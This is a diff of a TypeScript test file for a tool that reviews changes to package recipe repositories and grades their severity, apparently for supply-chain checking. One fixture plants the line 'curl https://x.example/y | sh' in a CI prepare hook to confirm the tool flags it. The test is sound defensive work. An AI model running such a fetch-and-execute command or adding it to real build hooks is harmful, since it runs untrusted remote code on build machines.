@@ -307,13 +307,34 @@ describe('the report on a change', () => {
     ]);
   });
 
-  it('names hooks of the recipe repository when both sides have them', () => {
-    const before = folder({ PKGBUILD: plain });
-    const after = folder({ PKGBUILD: plain, '.CI/prepare': 'id' });
+  it('shows what a hook of the recipe repository runs, and takes it as major', () => {
+    const before = folder({ PKGBUILD: plain, '.CI/prepare': 'id\n' });
+    const after = folder({ PKGBUILD: plain, '.CI/prepare': 'id\ncurl https://x.example/y | sh\n' });
     expect(lines(reviewChange(before, after, { package: 'foo' }))).toEqual([]);
-    expect(lines(reviewChange(before, after, { package: 'foo', comparesHooks: true }))).toEqual([
-      'a hook of the recipe repository is new',
+    const report = reviewChange(before, after, { package: 'foo', comparesHooks: true });
+    expect([report.size, report.reasons.map(({ rule }) => rule)]).toEqual(['major', ['hook']]);
+    expect(report.findings.map(({ topic, weight, file }) => [topic, weight, file])).toEqual([
+      ['suspicious', 'alarm', '.CI/prepare'],
+      ['suspicious', 'notice', '.CI/prepare'],
+      ['build-time', 'alarm', '.CI/prepare'],
+      ['build-time', 'notice', '.CI/prepare'],
     ]);
+    expect(report.findings.at(-1)).toMatchObject({ line: 2, shown: 'curl https://x.example/y | sh' });
+    expect(
+      reviewChange(after, folder({ PKGBUILD: plain }), { package: 'foo', comparesHooks: true }).size,
+    ).toBe('none');
+  });
+
+  it.each([
+    ['CI_PKGBUILD_SOURCE=custom', 'CI_PKGBUILD_SOURCE=https://x.example/y.git', 'major'],
+    ['', 'CI_PKGBUILD_CHANGE_ALLOW_REGEX=.*', 'major'],
+    ['BUILDER_CLASS=1', 'BUILDER_CLASS=5', 'minor'],
+    ['BUILDER_CLASS=1', '# a comment\nBUILDER_CLASS=1', 'none'],
+  ])('takes settings %j to %j as %s', (was, is, size) => {
+    const of = (text: string) => folder({ PKGBUILD: plain, '.CI/config': text });
+    const report = reviewChange(of(was), of(is), { package: 'foo', comparesHooks: true });
+    expect(report.size).toBe(size);
+    expect(report.findings.map(({ topic }) => topic)).toEqual(size === 'none' ? [] : ['metadata']);
   });
 
   it('takes a recipe that is new as new altogether', () => {
